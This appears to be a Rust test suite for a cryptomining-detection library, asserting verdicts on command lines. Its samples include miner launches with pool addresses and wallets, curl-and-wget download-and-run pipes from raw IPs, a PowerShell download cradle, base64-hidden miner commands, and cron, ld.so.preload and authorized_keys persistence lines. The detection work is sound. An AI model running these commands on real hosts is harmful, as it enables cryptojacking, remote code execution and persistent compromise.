use ciel_mining::{SignalKind as Kind, Strength, Verdict, assess, signals_in_argv};

use crate::has;

const XMR: &str = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
const ETH: &str = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed";

fn split(line: &str) -> Vec<String> {
    // A pipe with spaces around it belongs to a script.
    line.replace("{XMR}", XMR)
        .replace("{ETH}", ETH)
        .replace(" | ", " ¦ ")
        .replace("||", "¦¦")
        .split('|')
        .map(|word| word.replace('¦', "|"))
        .collect()
}

fn check(line: &str, expected: Verdict) {
    let words = split(line);
    let argv: Vec<&str> = words.iter().map(String::as_str).collect();
    let signals = signals_in_argv(&argv);
    assert_eq!(assess(&signals), expected, "{line}\n{signals:#?}");
}

#[test]
fn miners_as_seen_in_the_wild() {
    for line in [
        // Published cases, their wallets exchanged.
        "-a|cryptonight|-o|stratum+tcp://monerohash.com:3333|-u|{XMR}",
        "./xmrig|--donate-level|1|-o|pool.supportxmr.com:443|-u|{XMR}|-k|--tls",
        "/bin/sh|-c|wget https://github.com/xmrig/xmrig/releases/download/v6.16.4/xmrig-6.16.4-linux-static-x64.tar.gz && tar xf xmrig-6.16.4-linux-static-x64.tar.gz && cd xmrig-6.16.4 && ./xmrig -o pool.hashvault.pro:80 -u {XMR} -p x",
        "/usr/bin/kube-controller|-o|10.1.2.3:3333|-u|{XMR}.node1|-p|x",
        "/tmp/kworker|-o|51.15.1.2:443|-u|{XMR}|-p|x|-k",
        "ethminer|-P|stratum1+tcp://{ETH}.rig@eu1.ethermine.org:4444",
        "/app/miner|--algo=rx/0|--url=xmr.2miners.com:2222|--user={XMR}|--pass=x",
        "lolMiner|--algo|ETCHASH|--pool|etc.2miners.com:1010|--user|{ETH}.worker",
        "t-rex|-a|kawpow|-o|stratum+tcp://rvn.2miners.com:6060|-u|RAdr.rig|-p|x",
        "nbminer|-a|ethash|-o|ethproxy+tcp://asia1.ethermine.org:4444|-u|{ETH}.default",
        "PhoenixMiner|-pool|ssl://eu1.ethermine.org:5555|-wal|{ETH}.Rig001",
        "miner|--algo|kawpow|--server|rvn.woolypooly.com:55555|--user|RAdr.w",
        "cpuminer-avx2|-a|yespower|-o|stratum+tcp://stratum-eu.rplant.xyz:7017|-u|w|-p|x",
        "minerd|-a|cryptonight|-o|stratum+tcp://xmr.pool.minergate.com:45560|-u|a@b.c|-p|x",
        "dero-miner|--wallet-address=dero1qyq7zg0aa06vsh9z46w0ypms70haz55ff2vv60aph65j9dfn5mjv6qqfsf2k7|--daemon-rpc-address=1.2.3.4:10300",
        "astrominer|-w|deroi1|-r|community-pools.mysrv.cloud:10300|-p|rpc",
        "SRBMiner-MULTI|--disable-gpu|--algorithm|verushash|--pool|eu.luckpool.net:3956|--wallet|RAdr.x",
        "monerod|--start-mining|{XMR}|--mining-threads|4",
        "p2pool|--host|127.0.0.1|--wallet|{XMR}",
        "nsfminer|-P|stratum+ssl://{ETH}@eu1.ethermine.org:5555",
        "bash|-c|curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s {XMR}",
        "sh|-c|apt-get update && apt-get install -y cpuminer && cpuminer -o x:1 -u y",
        "sh|-c|git clone https://github.com/xmrig/xmrig.git && cd xmrig && make",
        "bash|-c|nohup ./xmrig -B &",
        "sh|-c|cp xmrig /usr/local/bin/kube-proxy; /usr/local/bin/kube-proxy",
        "sh|-c|docker run -d --name m kannix/monero-miner -a cryptonight -o stratum+tcp://x.y:1 -u z",
        "sh|-c|sudo nice -n 19 timeout 3600 /opt/xmrig --config=/etc/c.json",
        "sh|-c|chroot /host /tmp/xmrig",
        "./sysd|--randomx-1gb-pages|--cpu-max-threads-hint=75",
        "python3|-m|x|--coin|monero|--url|pool.hashvault.pro:443|--user|{XMR}",
        "/bin/sh|-c|echo eG1yaWcgLW8gcG9vbC5zdXBwb3J0eG1yLmNvbTo0NDMgLXUgYWJj | base64 -d | sh",
        "socat|TCP-LISTEN:3333,fork|TCP:pool.supportxmr.com:3333",
        "C:\\miner\\xmrig.exe|-o|pool.hashvault.pro:80",
        "xmrig-6.21.0/xmrig|-c|config.json",
        "/usr/bin/xmrigDaemon",
        "kdevtmpfsi",
        "python3|-c|import os; os.system('cd /tmp && ./xmrig -o a:1')",
        // Words that a shell puts together.
        "sh|-c|x\\mr\\ig -B",
        "bash|-c|'xm'rig --config x.json",
        "svc|-u|{XMR}",
        "svc|--url=10.0.0.1:443|--donate-level=1",
        "./app|--donate-level|1",
        "sh|-c|screen -dmS a $DIR/dero-miner --mining-threads 3",
        "sh|-c|tmux new -d './playground -w dero1qyq7zg0aa06vsh9z46w0ypms70haz55ff2vv60aph65j9dfn5mjv6qqfsf2k7 -r 127.0.0.1:11111 -p rpc > out.log'",
        "sh|-c|exec env A=b ./cpuminer-opt -a minotaurx",
        "/root/.configrc/a/kswapd0|-o|gulf.moneroocean.stream:10128",
        "--algo|ghostrider|--url|stratum-eu.rplant.xyz:17056|--user|w",
    ] {
        check(line, Verdict::Mining);
    }
}

#[test]
fn doubtful_lines_are_suspicious() {
    for line in [
        "./svc|-o|10.0.0.9:3333|-u|x|-p|x|-k",
        "geth|--mine|--miner.threads=1",
        "--mine|--miner.threads=8|--miner.etherbase={ETH}",
        "svc|-o|cdn.example.net:443|--tls|-k|-t|4|--coin|monero",
        "app|--rig-id|7",
        "/entrypoint.sh|xmrig",
    ] {
        check(line, Verdict::Suspicious);
    }
}

#[test]
fn programs_with_a_miners_options_are_innocent() {
    for line in [
        "nginx|-g|daemon off;",
        "--mine|--verbose",
        "app|-o|cdn.example.net:443|--tls|--coin|usd",
        "psql|-h|db:5432|-u|app|-p|5432",
        "mysql|-u|root|-p|secret|-h|db",
        "curl|-o|/tmp/x|-u|user:pass|https://example.com:8443/x",
        "ssh|-o|StrictHostKeyChecking=no|-p|22|host",
        "gcc|-o|a.out|-O2|x.c",
        "app|--threads|8|--url|https://api.example.com|--user|bob|--password|x",
        "consumer|--server|kafka:9092|--user|app|--pass|x",
        "web3|--wallet|{ETH}|--rpc-server|geth:8545",
        "shop|--donation-address|{XMR}",
        "btcpay|--address|1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa|--node|bitcoind:8333",
        "bitcoind|-server|-rpcuser=a",
        "geth|--http|--syncmode|snap|--miner.gasprice|1",
        "monerod|--non-interactive|--restricted-rpc",
        "monero-wallet-rpc|--daemon-address|node:18081|--rpc-bind-port|18083",
        "process-miner|--input|log.xes",
        "java|-jar|dataminer.jar|--threads|4",
        "text-miner|-o|out.json",
        "npm|run|start",
        "python|train.py|--gpu|0|--algo|ppo|--workers|8",
        "openssl|s_client|-connect|a:443|-a",
        "scrypt|enc|-t|5",
        "chronyd|-q|server ntp iburst stratum 2",
        "falco|-r|/etc/falco/rules.yaml",
        "sh|-c|if pgrep -f xmrig; then echo found; exit 1; fi",
        "sh|-c|ps aux | grep -E 'xmrig||minerd||kdevtmpfsi' | grep -v grep",
        "sh|-c|iptables -A OUTPUT -d pool.minexmr.com -j DROP",
        "sh|-c|pkill -f xmrig || true",
        "detector|--blocked-processes=xmrig,minerd,cpuminer,ethminer",
        "xmrig-exporter|--port|9189",
        "redis-server|--maxmemory|1gb",
        "postgres|-c|huge_pages=try",
        "sh|-c|sysctl -w vm.nr_hugepages=1024",
        "sh|-c|sysctl -w vm.max_map_count=262144 && curl -sfL https://get.k3s.io | sh -",
        "/tmp/install.sh",
        "sh|-c|echo hello > /tmp/x && cat /tmp/x",
        "argocd-server|--insecure|--repo-server|argocd-repo-server:8081",
        "prometheus|--config.file=/etc/prometheus/prometheus.yml|--web.external-url=http://p:9090",
        "t-rex",
        "dinosaur|t-rex",
        "locust|-H|https://x|-u|100|-r|10|-t|60",
        "wrk|-t4|-c100|-d30s|http://x:8080",
        "ethtool|-K|eth0",
        "coredns|-conf|/etc/coredns/Corefile",
        "gost|-L|:8080|-F|relay://x:443",
        "kcat|-b|kafka:9092|-t|x|-o|end",
        "nats-server|-p|4222|--user|a|--pass|b",
        "rigel-server",
        "rclone|sync|-P|a:3333|b",
        "redis-cli|-u|redis://x:6379|-a|secret",
        "mine|--craft",
        "minecraft|--port|25565",
        "python3|-c|print('xmrig')",
        "node|-e|console.log('to mine or not')",
        "helm|repo|add|nicehash-free|https://x",
        "chia-service",
        "apt-get|install|-y|nginx",
        "",
    ] {
        check(line, Verdict::Clean);
    }
}

#[test]
fn places_of_signs_are_words() {
    let argv = ["sh", "-c", "echo hi; ./xmrig -o pool.supportxmr.com:443"];
    let signals = signals_in_argv(&argv);
    let miner = signals
        .iter()
        .find(|signal| signal.kind == Kind::MinerBinary)
        .unwrap();
    assert_eq!(miner.word, 2);
    assert!(
        argv[2][miner.span.clone()].starts_with("./xmrig"),
        "{miner:?}"
    );
    let pool = signals
        .iter()
        .find(|signal| signal.kind == Kind::Pool)
        .unwrap();
    assert_eq!(&argv[2][pool.span.clone()], "pool.supportxmr.com:443");
}

#[test]
fn wallets_are_masked() {
    let words = split("xmrig|-u|{XMR}");
    let argv: Vec<&str> = words.iter().map(String::as_str).collect();
    for signal in signals_in_argv(&argv) {
        assert!(!signal.excerpt.contains(XMR), "{signal:?}");
    }
}

#[test]
fn downloads_are_weighed_by_their_host() {
    for (script, strength) in [
        ("curl -fsSL https://get.helm.sh | bash", Strength::Weak),
        (
            "curl -sSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash",
            Strength::Weak,
        ),
        ("wget -qO- http://10.0.0.4/setup.sh | sh", Strength::Weak),
        (
            "curl https://setup.example.net/i.sh | sudo bash -s -- -y",
            Strength::Moderate,
        ),
        (
            "wget -O - http://vendor.example.net/i | sh",
            Strength::Moderate,
        ),
        (
            "sh -c \"$(curl -fsSL https://evil.example.net/x)\"",
            Strength::Moderate,
        ),
        (
            "bash <(wget -qO- https://raw.githubusercontent.com/a/b/c.sh)",
            Strength::Moderate,
        ),
        (
            "curl -o /tmp/a https://x.example.net/a; chmod +x /tmp/a; /tmp/a",
            Strength::Moderate,
        ),
        (
            "curl 45.9.148.35/chimaera/sh/init.sh | bash",
            Strength::Strong,
        ),
        (
            "(curl -s http://45.9.148.35/i.sh || wget -qO- http://45.9.148.35/i.sh) | bash",
            Strength::Strong,
        ),
        (
            "wget -q http://194.145.227.21/ldr.sh -O /tmp/l; bash /tmp/l",
            Strength::Strong,
        ),
        ("curl https://pastebin.com/raw/abcd | sh", Strength::Strong),
        (
            "wget https://transfer.sh/x/y -O y && chmod +x y && ./y",
            Strength::Strong,
        ),
        ("eval \"$(wget -qO- http://1.2.3.4/p)\"", Strength::Strong),
        (
            "python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://1.2.3.4/p.py\").read())'",
            Strength::Strong,
        ),
        (
            "c\\u\\r\\l -s http://1.2.3.4/x | b'a's'h'",
            Strength::Strong,
        ),
        ("busybox wget -qO- http://1.2.3.4/x | sh", Strength::Strong),
        (
            "wget -q http://1.2.3.4/s/app -O /w/app && chmod 777 /w/app",
            Strength::Strong,
        ),
        (
            "cmd.exe /c \"powershell -nop -w hidden -c \\\"IEX (New-Object Net.WebClient).DownloadString('http://1.2.3.4/m.ps1')\\\"\"",
            Strength::Strong,
        ),
    ] {
        let signals = signals_in_argv(&["sh", "-c", script]);
        let best = signals
            .iter()
            .filter(|signal| signal.kind == Kind::DownloadAndRun)
            .map(|signal| signal.strength)
            .max();
        assert_eq!(best, Some(strength), "{script}\n{signals:#?}");
        assert_eq!(assess(&signals), Verdict::Clean, "{script}");
    }
}

#[test]
fn texts_in_base64_are_read() {
    for argv in [
        // `import os;os.system("/tmp/k -o stratum+ssl://xmr.example.net:8029")`
        &[
            "python3",
            "-c",
            "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiL3RtcC9rIC1vIHN0cmF0dW0rc3NsOi8veG1yLmV4YW1wbGUubmV0OjgwMjkiKQ=='))",
        ] as &[&str],
        // `{"donate-level":1,"pools":[{"url":"pool.supportxmr.com:443","user":"x"}]}`
        &[
            "/entrypoint",
            "eyJkb25hdGUtbGV2ZWwiOjEsInBvb2xzIjpbeyJ1cmwiOiJwb29sLnN1cHBvcnR4bXIuY29tOjQ0MyIsInVzZXIiOiJ4In1dfQ==",
        ],
        // `/tmp/x -o pool.supportxmr.com:443 -u x`, as PowerShell takes it
        &[
            "powershell",
            "-enc",
            "LwB0AG0AcAAvAHgAIAAtAG8AIABwAG8AbwBsAC4AcwB1AHAAcABvAHIAdAB4AG0AcgAuAGMAbwBtADoANAA0ADMAIAAtAHUAIAB4AA==",
        ],
    ] {
        let signals = signals_in_argv(argv);
        assert_eq!(assess(&signals), Verdict::Mining, "{argv:?}\n{signals:#?}");
    }
}

#[test]
fn base64_of_others_is_innocent() {
    for argv in [
        // `server: {port: 8080, poolSize: 20, url: "postgres://db:5432/app"}`
        &[
            "sh",
            "-c",
            "echo c2VydmVyOiB7cG9ydDogODA4MCwgcG9vbFNpemU6IDIwLCB1cmw6ICJwb3N0Z3JlczovL2RiOjU0MzIvYXBwIn0= | base64 -d > /tmp/c; exec app",
        ] as &[&str],
        &[
            "app",
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        ],
        &[
            "app",
            "--path",
            "/usr/share/very/long/path/of/an/application/in/its/image",
        ],
    ] {
        let signals = signals_in_argv(argv);
        assert_eq!(assess(&signals), Verdict::Clean, "{argv:?}\n{signals:#?}");
        assert!(
            !has(&signals, Kind::DownloadAndRun, Strength::Weak),
            "{argv:?}"
        );
    }
}

#[test]
fn ordinary_downloads_are_none() {
    for script in [
        "curl -sf http://localhost:8080/healthz",
        "wget -O /data/model.bin https://x.example.net/model.bin",
        "curl -sL https://x/y.tar.gz | tar xz -C /opt",
        "curl -s https://api/x | jq .a",
        "curl -o /tmp/a.json https://x/a.json; cat /tmp/a.json",
        "cat script.sh | sh",
        "wget -O /p/tool https://github.com/o/tool/releases/download/v1/tool && chmod +x /p/tool",
        "echo aGVsbG8= | base64 -d",
        "kubectl get secret x -o jsonpath={.data.p} | base64 -d",
        "# curl https://evil | sh",
    ] {
        let signals = signals_in_argv(&["sh", "-c", script]);
        assert!(
            !has(&signals, Kind::DownloadAndRun, Strength::Weak),
            "{script}\n{signals:#?}"
        );
    }
}

#[test]
fn droppers_give_themselves_away() {
    for (script, kind) in [
        ("pkill -f xmrig; killall kinsing", Kind::RivalKiller),
        ("setenforce 0", Kind::DefenceEvasion),
        ("iptables -F", Kind::DefenceEvasion),
        ("modprobe msr allow_writes=on", Kind::HostTuning),
        ("echo 1280 > /proc/sys/vm/nr_hugepages", Kind::HostTuning),
        ("sysctl -w vm.nr_hugepages=1280", Kind::HostTuning),
        (
            "(crontab -l; echo '* * * * * curl http://1.2.3.4/x|sh') | crontab -",
            Kind::Persistence,
        ),
        (
            "echo '* * * * * root /tmp/x' >> /etc/cron.d/apache",
            Kind::Persistence,
        ),
        (
            "echo /usr/lib/libx.so > /etc/ld.so.preload",
            Kind::Persistence,
        ),
        (
            "echo '* * * * * root curl -s http://1.2.3.4/x | sh' >> /host/etc/crontab",
            Kind::Persistence,
        ),
        (
            "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys",
            Kind::Persistence,
        ),
        ("/dev/shm/.x/run", Kind::HiddenExecution),
        (
            "nohup /tmp/.ice-unix/kworker >/dev/null 2>&1 &",
            Kind::HiddenExecution,
        ),
        ("mv xmrig kube-proxy", Kind::Disguise),
        (
            "cp /tmp/xmrig-6.16/xmrig /usr/bin/dockerd-env",
            Kind::Disguise,
        ),
        ("systemctl stop aliyun.service", Kind::DefenceEvasion),
        (
            "python -c 'import os,zlib,base64;fd=os.memfd_create(\"\");os.write(fd,zlib.decompress(base64.b64decode(x)));os.execve(fd)'",
            Kind::HiddenExecution,
        ),
    ] {
        let signals = signals_in_argv(&["sh", "-c", script]);
        assert!(
            has(&signals, kind, Strength::Weak),
            "{script}\n{signals:#?}"
        );
    }
}
